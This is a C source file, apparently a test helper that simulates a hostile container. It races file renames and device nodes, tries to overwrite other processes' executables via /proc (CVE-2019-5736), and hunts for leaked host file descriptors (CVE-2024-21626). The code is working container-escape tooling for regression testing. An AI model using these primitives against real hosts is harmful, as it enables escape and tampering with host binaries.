/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * What a hostile image, volume or container does.
 *
 *   attacker swap A B [A B]...  exchanges the names of each pair, at full speed, until it is killed
 *   attacker null A             makes and removes the null device A, so
 *   attacker exe SECONDS        in a container: takes hold of the image of each process that comes
 *                               by and writes to it later (CVE-2019-5736)
 *   attacker spy FILE SECONDS   in a container: looks for FILE in the directories that other
 *                               processes hold (CVE-2016-9962, CVE-2024-21626)
 *   attacker ids                as whom it runs: UID GID CAPABILITIES, those in effect
 *
 * exe and spy print what they have got, one KEY=VALUE a line.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static int usage(void)
{
	fputs("usage: attacker swap A B...|null A|exe SECONDS|spy FILE SECONDS|ids\n", stderr);
	return 2;
}

static int swap(int argc, char **argv)
{
	for (;;)
		for (int i = 0; i + 1 < argc; i += 2)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1],
				    RENAME_EXCHANGE) < 0 &&
			    errno != ENOENT && errno != EBUSY)
				return perror(argv[i]), 1;
}

/* There as long as it takes to be found, gone before it has been used for all. */
static int null(const char *name)
{
	for (long i = 0;; i += 7919) {
		struct timespec there = {.tv_nsec = i % 500000}, gone = {.tv_nsec = 20000};

		if (mknod(name, S_IFCHR | 0666, makedev(1, 3)) < 0 && errno != EEXIST)
			return perror(name), 1;
		(void)nanosleep(&there, NULL);
		if (unlink(name) < 0 && errno != EBUSY && errno != ENOENT)
			return perror(name), 1;
		(void)nanosleep(&gone, NULL);
	}
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Calls fn for each process but this one, until the time is over. */
static void each_process(const char *seconds, void (*fn)(int pid, void *arg), void *arg)
{
	double end = now() + atof(seconds);

	while (now() < end) {
		DIR *d = opendir("/proc");
		if (d == NULL)
			return;
		for (struct dirent *e = readdir(d); e != NULL; e = readdir(d)) {
			int pid = atoi(e->d_name);
			if (pid > 0 && pid != getpid())
				fn(pid, arg);
		}
		closedir(d);
	}
}

struct images {
	int fd[64];
	ino_t ino[64];
	int n, writes, seen;
};

/* An O_PATH descriptor keeps the image after the process is gone, when it is no longer "text busy".
 */
static void image_take(int pid, void *arg)
{
	struct images *im = arg;
	struct stat st, own;
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0)
		return;
	im->seen++;
	int known = stat("/proc/self/exe", &own) == 0 && own.st_ino == st.st_ino;
	for (int i = 0; i < im->n; i++)
		known = known || im->ino[i] == st.st_ino;
	if (known || im->n == 64) {
		close(fd);
		return;
	}
	im->ino[im->n] = st.st_ino;
	im->fd[im->n++] = fd;
}

static int exe(const char *seconds)
{
	struct images im = {.n = 0};

	each_process(seconds, image_take, &im);
	for (int i = 0; i < im.n; i++) {
		char path[64], name[256] = "";
		snprintf(path, sizeof(path), "/proc/self/fd/%d", im.fd[i]);
		if (readlink(path, name, sizeof(name) - 1) > 0 && strncmp(name, "/bin/", 5) == 0)
			continue; /* the container's own program */
		int fd = -1;
		for (int t = 0; t < 100 && fd < 0; t++) {
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd < 0 && errno == ETXTBSY)
				usleep(10000);
			else
				break;
		}
		if (fd >= 0 && write(fd, "#!/bin/evil\n", 12) == 12)
			im.writes++;
		printf("image=%s\n", name);
	}
	printf("seen=%d\nwritten=%d\n", im.seen, im.writes);
	return 0;
}

struct spying {
	const char *file;
	int found, seen;
};

static void spy_at(struct spying *s, const char *dir)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/%s", dir, s->file);
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd >= 0) {
		s->found++;
		printf("found=%s\n", path);
		close(fd);
	}
}

static void spy_on(int pid, void *arg)
{
	struct spying *s = arg;
	char dir[64];

	s->seen++;
	snprintf(dir, sizeof(dir), "/proc/%d/cwd", pid);
	spy_at(s, dir);
	snprintf(dir, sizeof(dir), "/proc/%d/root", pid);
	spy_at(s, dir);
	for (int fd = 3; fd < 40; fd++) {
		snprintf(dir, sizeof(dir), "/proc/%d/fd/%d", pid, fd);
		spy_at(s, dir);
	}
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int fd = 3; pidfd >= 0 && fd < 40; fd++) {
		int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		if (got >= 0 && faccessat(got, s->file, F_OK, 0) == 0) {
			s->found++;
			printf("found=pidfd %d\n", fd);
		}
		if (got >= 0)
			close(got);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static int spy(const char *file, const char *seconds)
{
	struct spying s = {.file = file};

	each_process(seconds, spy_on, &s);
	printf("seen=%d\nfound=%d\n", s.seen, s.found);
	return 0;
}

static int ids(void)
{
	char line[256];
	const char *caps = "?";
	FILE *f = fopen("/proc/self/status", "re");

	while (f != NULL && fgets(line, sizeof(line), f) != NULL) {
		if (strncmp(line, "CapEff:\t", 8) == 0) {
			line[strcspn(line, "\n")] = '\0';
			caps = line + 8;
			break;
		}
	}
	printf("%d %d %s\n", geteuid(), getegid(), caps);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc >= 4 && strcmp(argv[1], "swap") == 0)
		return swap(argc - 2, argv + 2);
	if (argc == 3 && strcmp(argv[1], "null") == 0)
		return null(argv[2]);
	if (argc == 3 && strcmp(argv[1], "exe") == 0)
		return exe(argv[2]);
	if (argc == 4 && strcmp(argv[1], "spy") == 0)
		return spy(argv[2], argv[3]);
	if (argc == 2 && strcmp(argv[1], "ids") == 0)
		return ids();
	return usage();
}
